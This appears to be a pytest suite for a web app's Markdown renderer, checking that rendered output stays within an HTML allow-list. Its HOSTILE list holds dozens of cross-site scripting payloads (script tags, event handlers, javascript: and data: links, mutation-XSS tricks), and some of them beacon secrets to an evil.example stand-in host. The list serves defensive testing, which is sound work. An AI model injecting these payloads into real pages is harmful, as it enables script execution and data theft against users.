"""Markdown of people and agents: what it gives, and what nothing can make it give."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from webapp.assets import locate
from webapp.web.code_css import code_css
from webapp.web.markdown import MAX_MARKDOWN, MarkdownCache, render_markdown

ALLOWED = {
    "p": set(), "br": set(), "hr": set(), "blockquote": set(), "ul": set(), "ol": {"start"}, "li": set(),
    "h1": set(), "h2": set(), "h3": set(), "h4": set(), "h5": set(), "h6": set(), "em": set(),
    "strong": set(), "s": set(),
    "a": {"href", "title", "rel"}, "code": {"class"}, "pre": {"class"}, "span": {"class"},
    "figure": {"class"}, "figcaption": set(), "table": set(), "thead": set(), "tbody": set(), "tr": set(),
    "th": {"class"}, "td": {"class"},
}  # fmt: skip

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](data:image/png;base64,AAAA)",
    "[x](file:///etc/passwd)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](https://evil.example/?q=secret)",
    "![x](javascript:alert(1))",
    '![x](https://evil.example/"onerror="alert(1))',
    '[x](https://a.example "t\\" onmouseover=alert(1) x=\\"")',
    "```\"><script>alert(1)</script>\ncode\n```",
    "```python\" onload=\"alert(1)\n<script>alert(1)</script>\n```",
    "```html\n<script>alert(1)</script>\n```",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    '<div hx-get="/api/chats" hx-trigger="load">x</div>',
    "<style>*{background:url(//evil.example)}</style>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><button>x</button></form>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "https://evil.example/\"onmouseover=\"alert(1)",
    "\u2028<script>alert(1)</script>\u2029",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "# <img src=x onerror=alert(1)>",
    "> <img src=x onerror=alert(1)>",
]  # fmt: skip


class _Checker(HTMLParser):
    """Fails on anything outside the allow-list; collects the text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in ALLOWED, f"<{tag}>"
        for name, value in attrs:
            assert name in ALLOWED[tag], f"<{tag} {name}>"
            if name == "href":
                assert not re.match(r"(?!https?:|mailto:)[^/?#]*:", value or ""), f"href={value}"
            if name == "class":
                assert re.fullmatch(r"[a-z0-9_+#. -]+", value or ""), f"class={value}"

    def handle_comment(self, data: str) -> None:
        raise AssertionError("comment")

    def handle_decl(self, decl: str) -> None:
        raise AssertionError("declaration")

    def handle_data(self, data: str) -> None:
        self.text += data


def check(html: str) -> str:
    checker = _Checker()
    checker.feed(str(html))
    checker.close()
    return checker.text


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_markdown_is_text(text: str) -> None:
    check(render_markdown(text))


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_markdown_is_text_wherever_it_is_cut(text: str) -> None:
    """While it streams, every prefix is rendered once."""
    for end in range(len(text)):
        check(render_markdown(text[:end]))


_FRAGMENTS = st.sampled_from(
    [*HOSTILE, "**", "`", "```", "|", "\n", "<", "](", "![", "[", "&#", "~~", "> ", "- ", "\\"]
)


@settings(max_examples=150)
@given(st.lists(_FRAGMENTS | st.text(max_size=8), max_size=8).map("".join))
def test_no_mixture_leaves_the_allow_list(text: str) -> None:
    check(render_markdown(text))


def test_the_blocks_people_use() -> None:
    html = render_markdown(
        "# Hi *there*\n\n1. a\n2. ~~b~~\n\n| a | b |\n|:-:|--:|\n| 1 | 2 |\n\nhttps://example.org"
    )
    assert "<h1>Hi <em>there</em></h1>" in html
    assert "<s>b</s>" in html
    assert '<th class="align-center">a</th>' in html
    assert '<td class="align-right">2</td>' in html
    assert (
        '<a href="https://example.org" rel="noopener noreferrer nofollow ugc">https://example.org</a>' in html
    )


def test_code_has_its_language_and_classes() -> None:
    html = render_markdown("```Python title\nif a < b: pass\n```")
    assert html.startswith('<figure class="code"><figcaption><span class="lang">python</span></figcaption>')
    assert '<pre><code class="language-python"><span class="tok-k">if</span>' in html
    assert html.endswith("</code></pre></figure>")
    assert "style=" not in html
    assert check(html) == "pythonif a < b: pass\n"


@pytest.mark.parametrize("fence", ["```", "```nolanguage", "    "])
def test_code_without_a_known_language_is_escaped(fence: str) -> None:
    text = f"{fence}<b> & 'c'" if fence.isspace() else f"{fence}\n<b> & 'c'\n```"
    assert "&lt;b&gt; &amp; 'c'\n</code></pre></figure>" in render_markdown(text)


@pytest.mark.parametrize("language", ["python", "html", "json", "js", "text", "diff", "bash", "sql"])
@given(code=st.text(alphabet="ab \n\t<>&\"'{}=0", max_size=40))
@settings(max_examples=15)
def test_highlighting_changes_no_character(language: str, code: str) -> None:
    shown = check(render_markdown(f"~~~{language}\n{code}\n~~~"))
    assert shown == f"{language}{code}\n"


def test_images_become_links() -> None:
    html = render_markdown("![a *cat*](https://example.org/cat.png)")
    assert html == (
        '<p><a href="https://example.org/cat.png" rel="noopener noreferrer nofollow ugc">a cat</a></p>'
    )


def test_beyond_the_limit_text_is_plain() -> None:
    html = render_markdown("word " * (MAX_MARKDOWN // 5) + "**<b>**")
    assert html.endswith('<pre class="plain">**&lt;b&gt;**</pre>')


def test_an_endless_word_does_not_take_for_ever() -> None:
    assert "http" in render_markdown("http://a.b/(" * 5000)


def test_the_cache_forgets_the_least_recently_used() -> None:
    cache = MarkdownCache(max_chars=40)
    first, second = cache.render("a" * 10), cache.render("b" * 10)
    assert cache.render("a" * 10) is first
    cache.render("c" * 10)
    assert cache.render("a" * 10) is first
    assert cache.render("b" * 10) is not second
    assert cache.render("\ud800") == "<p>?</p>"


def test_the_style_sheet_is_the_generated_one() -> None:
    assert (locate("static") / "css" / "code.css").read_text() == code_css()
